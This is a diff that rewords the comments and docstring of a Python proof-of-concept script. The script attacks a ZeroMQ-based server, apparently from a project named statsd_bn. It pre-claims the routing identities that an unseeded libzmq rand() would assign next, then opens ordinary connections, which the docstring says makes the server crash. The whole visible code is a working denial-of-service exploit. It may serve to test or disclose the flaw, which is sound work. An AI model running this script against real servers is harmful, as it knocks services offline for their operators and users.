@@ -1,7 +1,7 @@
-"""Claims the routing ids that a server would give next, then connects as anybody would; says how many were answered.
+"""Claims the routing ids that a server would assign next, then opens ordinary connections; prints how many got answers.
 
-An endpoint, and the file of a key or nothing, are its arguments. libzmq counts ids up from `rand()`. Where that is not
-seeded they are known, and an ordinary connection that is given a claimed one ends the server.
+Arguments: an endpoint, and optionally a key file. libzmq counts ids up from `rand()`. If `rand()` is not seeded, the
+ids are known, and the server crashes when it assigns a claimed one to an ordinary connection.
 """
 
 import os
@@ -15,21 +15,21 @@ from statsd_bn.keys import load_client
 from statsd_bn.messages import StatusRequest
 from statsd_bn.wire import encode
 
-# What `rand()` gives first that nobody has seeded.
+# First value of an unseeded `rand()`.
 UNSEEDED = 0x6B8B4567
 
 CLAIMED, ORDINARY = 64, 96
 
-# Until the server has seen all of them.
+# Time for the server to accept all connections.
 SECONDS = 2.0
 
 ANSWER_MILLISECONDS = 5000
 
 
 def main() -> None:
-    """Attacks, and prints what became of the ordinary connections."""
+    """Attacks, and prints how many ordinary connections got an answer."""
     context = zmq.Context()
-    # Whoever is not held is closed at once.
+    # Kept in a list, because Python closes a socket without references at once.
     claims = [connect(context, b"\0" + struct.pack(">I", UNSEEDED + number)) for number in range(CLAIMED)]
     time.sleep(SECONDS)
     ordinary = [connect(context) for _ in range(ORDINARY)]
@@ -38,7 +38,7 @@ def main() -> None:
         bool(socket.poll(ANSWER_MILLISECONDS if number == 0 else 0)) for number, socket in enumerate(ordinary)
     )
     print(f"{answered} of {ORDINARY} answered beside {len(claims)} claims", flush=True)
-    # At once: where the server has ended, each socket would first ask for its name in vain, for many seconds.
+    # Without cleanup: if the server has ended, each socket would first try to resolve its name for many seconds.
     os._exit(0)
 
 
